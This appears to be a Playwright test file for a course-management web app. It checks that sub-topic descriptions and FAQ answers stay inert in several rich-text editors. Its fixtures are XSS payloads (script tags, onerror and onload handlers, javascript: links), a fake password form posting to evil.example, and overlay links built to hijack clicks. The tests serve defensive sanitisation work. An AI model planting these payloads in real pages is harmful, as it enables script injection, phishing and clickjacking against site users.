import type { Locator, Page } from '@playwright/test';
import { noAudit, noVideo } from '../support/blankColumns';
import { panel } from './courseForms';
import { openOn } from './otherServer';
import { expect, test } from './support';

// A foreign server, which stores all that it is sent.
test.use({ config: { mode: 'http' } });

const hostile = [
  '<h2>Forests</h2>',
  '<img src="x" onerror="document.title=\'taken\'">',
  '<script>document.title="taken"</script>',
  '<svg onload="document.title=\'taken\'"><a href="javascript:document.title=1">svg</a></svg>',
  '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe>',
  '<a href="javascript:document.title=\'taken\'">link</a>',
  '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
  '<style>body { display: none }</style>',
  '<p style="position: fixed; inset: 0; background: url(https://evil.example/x); text-align: center">Centre</p>',
].join('');

const names = {
  category_name: 'Forest Service',
  course_name: 'Ranger',
  subcourse_name: 'First paper',
  main_topic_title: 'Forest law',
  lesson_title: 'The Forest Act',
  instructor_name: null,
};
const subTopic = {
  ...{ iid: 1, topic_title: 'Forests', slug: 'forests', lesson_iid: 1, instructor_iid: 1, sub_topic_order: 1 },
  ...{ page_type: 'plain_text', sub_topic_desc: hostile, resource_url: null },
  ...names,
  ...noAudit,
  ...noVideo,
};

/** Opens a screen of a sub topic with a hostile description, which was written with this editor. */
const open = (page: Page, path: string, editor: string, text = hostile) =>
  openOn(page, path, {
    getCourseTree: [],
    getSubTopicOrderSelect: [1],
    fetchInstructorSelect: [{ iid: 1, instructor_name: 'Ramesh Koirala' }],
    viewSubTopicDetails: { ...subTopic, description_editor_type: editor, sub_topic_desc: text },
  });

/** Expects that no script has run, and that no deceptive or disturbing element is rendered. */
async function expectInert(page: Page, place: Locator, title = / · Course Setup · /): Promise<void> {
  await expect(place.getByText('Centre')).toBeVisible();
  await expect(place.getByText('Centre')).not.toHaveCSS('position', 'fixed');
  await expect(place).toContainText('link');
  await expect(place.locator('[name=password], [onerror], [onload], iframe, script, style')).toHaveCount(0);
  await expect(place.locator('[href^="javascript"]')).toHaveCount(0);
  await expect(page).toHaveTitle(title);
  await expect(page.locator('body')).toBeVisible();
}

test('a hostile description is shown inert, and keeps its harmless styles', async ({ page }) => {
  await open(page, '/coursesetup/viewSubTopicDetails/forests', 'ck');
  const details = panel(page, 'Sub Topic Details');
  await expectInert(page, details);
  await expect(details.getByText('Centre')).toHaveCSS('text-align', 'center');
  await expect(details.getByRole('heading', { name: 'Forests', exact: true })).toBeVisible();
});

for (const editor of ['ck', 'quill', 'jodit']) {
  test(`a hostile description is edited inert in ${editor}`, async ({ page }) => {
    await open(page, '/coursesetup/editSubTopic/forests', editor);
    const form = panel(page, 'Edit Sub Topic');
    const text = form.getByRole('textbox', { name: 'Description' });
    await expect(text).toContainText('Forests');
    await expectInert(page, form);
  });
}

const faq = {
  ...{ iid: 1, faq_title: 'Forests?', course_iid: 1, course_name: 'Ranger', priority_order: 1 },
  ...noAudit,
};

/** Opens the form of an FAQ whose answer is hostile. */
async function openFaq(page: Page, text = hostile): Promise<Locator> {
  await openOn(page, '/faq/edit/1', { getCourseTree: [], fetchFAQById: { ...faq, faq_desc: text } });
  return page.getByRole('dialog', { name: 'Edit FAQ' });
}

test('a hostile answer is edited inert in ra-input-rich-text', async ({ page }) => {
  const form = await openFaq(page);
  await expect(form.getByRole('textbox', { name: 'Answer' })).toContainText('Forests');
  await expectInert(page, form, /^Edit FAQ · /);
  await expect(form.getByText('Centre')).toHaveCSS('text-align', 'center');
});

test('what is hostile is pasted inert into ra-input-rich-text', async ({ page }) => {
  const form = await openFaq(page, '<p>Answer</p>');
  await form.getByRole('textbox', { name: 'Answer' }).focus();
  await page.keyboard.press('Control+End');
  await page.evaluate((html) => {
    const clipboardData = new DataTransfer();
    clipboardData.setData('text/html', html);
    document.activeElement?.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
  }, hostile);
  await expectInert(page, form, /^Edit FAQ · /);
  await expect(form.getByText('Centre')).toHaveCSS('text-align', 'center');
});

const link = (style: string, inside = 'x') => `<a href="https://evil.example/"><p style="${style}">${inside}</p></a>`;
const covering = [
  '<p>Wide woods</p>',
  link('margin: -5000px; padding: 5000px'),
  link('margin-left: -5000px; padding-left: 5000px'),
  link('margin-top: -300px; font-size: 4000px'),
  link('text-indent: -300px', 'x'.repeat(500)),
  link('line-height: 5000px; margin-bottom: -5000px'),
  link('height: 0; margin-top: -200px', '<img src="/logo.svg" alt="" width="5000" height="5000">'),
  link('width: 5000px; border: 5000px solid transparent'),
  link('vertical-align: 3000px; letter-spacing: 500px'),
  '<a href="https://evil.example/" style="padding: 5000px">x</a>',
  '<a href="https://evil.example/" popover style="position: fixed; inset: 0">x</a>',
  '<p>End</p>',
].join('');

/** Returns the points, of a grid over the window, at which a click outside the text's box would hit a part of the text. */
const hitsOutside = (text: Locator) =>
  text.evaluate((box) => {
    const { left, right, top, bottom } = box.getBoundingClientRect();
    const steps = (size: number) => Array.from({ length: 41 }, (_, step) => Math.min(1 + (step * size) / 40, size - 1));
    const points = steps(innerWidth).flatMap((x) => steps(innerHeight).map((y) => ({ x, y })));
    return points
      .filter(({ x, y }) => x < left || x > right || y < top || y > bottom)
      .filter(({ x, y }) => box.contains(document.elementFromPoint(x, y)));
  });

async function expectInBox(text: Locator): Promise<void> {
  await expect(text).toContainText('End');
  await expect(text.getByRole('link').first()).toBeAttached();
  expect(await hitsOutside(text)).toEqual([]);
}

test('a link of a text is nowhere but in the box of the text', async ({ page }) => {
  await open(page, '/coursesetup/viewSubTopicDetails/forests', 'ck', covering);
  await expectInBox(panel(page, 'Sub Topic Details').getByText('Wide woods').locator('..'));
});

for (const editor of ['ck', 'quill', 'jodit']) {
  test(`a link of a text is nowhere but in ${editor}`, async ({ page }) => {
    await open(page, '/coursesetup/editSubTopic/forests', editor, covering);
    await expectInBox(panel(page, 'Edit Sub Topic').getByRole('textbox', { name: 'Description' }));
  });
}

test('a link of a text is nowhere but in ra-input-rich-text', async ({ page }) => {
  const form = await openFaq(page, covering);
  await expectInBox(form.getByRole('textbox', { name: 'Answer' }));
});
